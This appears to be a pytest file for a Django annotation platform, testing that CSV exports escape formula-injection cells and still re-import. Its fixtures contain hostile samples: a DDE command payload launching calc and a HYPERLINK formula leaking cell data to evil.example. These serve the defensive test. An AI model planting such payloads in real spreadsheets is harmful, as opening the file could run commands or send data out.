"""No CSV the platform writes starts a cell with =, +, -, @, tab or carriage return unless the cell
is a number (OWASP's CSV injection rule, core/spreadsheet.py): file names, rater names, flag notes,
audit targets and details that a hostile member chose are written with a leading ' instead, so that
a coordinator opening the export in a spreadsheet runs nothing.

Every export is fetched as its users fetch it (pages and API), from a study whose every text field
is hostile; and our own ratings export still imports back.
"""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from annotation.csv_io import ratings_csv_import
from annotation.ingest import Source
from annotation.models import StudyMembership
from annotation.services import assignment_flag, images_import, membership_add, rating_submit, study_create, study_open
from core.spreadsheet import DANGEROUS_FIRST
from tests.api_support import API, api_client
from tests.conftest import COHEN_VALUES, png_bytes
from tests.security_support import active_model_with_predictions

HOSTILE_FILENAME = "=1+1*cmd|' /C calc'!A0.png"
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_RATER = "@evil"  # Django usernames may start with @, + or -
OTHER_HOSTILE_FILENAMES = ["+sum(1).png", "-2+3.png", "@cmd.png"]  # control characters are refused at import


@pytest.fixture
def hostile_study(personas, django_capture_on_commit_callbacks):
    alice = personas["alice"]
    study = study_create(owner=alice, slug="hostile", title="=cmd|' /C calc'!A0", raters_per_case=2)
    evil = get_user_model().objects.create_user(username=HOSTILE_RATER, password="x" * 20)
    for user in (evil, personas["rater1"]):
        membership_add(study=study, user=user, role=StudyMembership.Role.RATER)
    names = [HOSTILE_FILENAME, *OTHER_HOSTILE_FILENAMES]
    report = images_import(
        study=study,
        sources=[Source(name=name, where=name, data=png_bytes(900 + i)) for i, name in enumerate(names)],
    )
    assert report.count("imported") == len(names), report.rows
    study_open(study=study, actor=alice)
    for assignment in study.assignments.select_related("rater"):
        if assignment.rater == evil and assignment.case.original_filename == HOSTILE_FILENAME:
            assignment_flag(assignment=assignment, reason="other", note=HOSTILE_NOTE)
        else:
            rating_submit(assignment=assignment, values=COHEN_VALUES, reading_time_s=12.5)
    active_model_with_predictions(study, values={"geographic_extent": -0.5, "opacity": 1})
    with django_capture_on_commit_callbacks(execute=True):
        assert api_client(alice).post(f"{API}/studies/hostile/report/", format="json").status_code in (200, 202)
    return study


def _exports(client, api) -> dict[str, str]:
    paths = {
        "ratings (page)": "/studies/hostile/export/ratings.csv",
        "scores (page)": "/studies/hostile/export/scores.csv",
        "consensus (page)": "/studies/hostile/export/consensus.csv",
        "predictions (page)": "/studies/hostile/export/predictions.csv",
        "audit (page)": "/studies/hostile/export/audit.csv",
        "report (page)": "/studies/hostile/report.csv",
    }
    api_paths = {
        "ratings (API)": f"{API}/studies/hostile/exports/ratings.csv",
        "scores (API)": f"{API}/studies/hostile/exports/scores.csv",
        "consensus (API)": f"{API}/studies/hostile/exports/consensus.csv",
        "report (API)": f"{API}/studies/hostile/report.csv",
    }
    texts = {}
    for name, path in paths.items():
        response = client.get(path)
        assert response.status_code == 200, (name, response.content[:300])
        texts[name] = response.content.decode("utf-8-sig")
    for name, path in api_paths.items():
        response = api.get(path)
        assert response.status_code == 200, (name, response.content[:300])
        texts[name] = response.content.decode("utf-8-sig")
    return texts


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_cell_of_any_export_starts_a_formula(hostile_study, personas, client_for):
    texts = _exports(client_for("alice"), api_client(personas["alice"]))
    for name, text in texts.items():
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1, name
        for row in rows:
            for cell in row:
                assert not cell.startswith(DANGEROUS_FIRST) or _is_number(cell), (name, cell)

    assert "'" + HOSTILE_FILENAME in texts["ratings (page)"] and "'" + HOSTILE_FILENAME in texts["consensus (page)"]
    assert "'" + HOSTILE_NOTE in texts["ratings (page)"].replace('""', '"')
    assert "'" + HOSTILE_RATER in texts["ratings (page)"]
    assert "'" + HOSTILE_RATER in texts["audit (page)"]
    assert "'" + HOSTILE_FILENAME in texts["predictions (page)"]
    assert "'" + HOSTILE_FILENAME in texts["scores (page)"]
    assert "-0.5" in texts["predictions (page)"]  # numbers stay numbers, negative ones included


def test_our_own_ratings_export_imports_back_with_the_names_as_they_were(hostile_study, personas, make_study):
    exported = api_client(personas["alice"]).get(f"{API}/studies/hostile/exports/ratings.csv").content
    copy = study_create(owner=personas["alice"], slug="copy", title="copy", raters_per_case=2)
    evil = get_user_model().objects.get(username=HOSTILE_RATER)
    for user in (evil, personas["rater1"]):
        membership_add(study=copy, user=user, role=StudyMembership.Role.RATER)
    count = ratings_csv_import(study=copy, data=exported, allow_missing_images=True)
    assert count == hostile_study.assignments.filter(current_rating__isnull=False).count()
    names = set(copy.cases.values_list("original_filename", flat=True))
    assert {HOSTILE_FILENAME, *OTHER_HOSTILE_FILENAMES} == names
    assert copy.assignments.filter(rater=evil).exists()
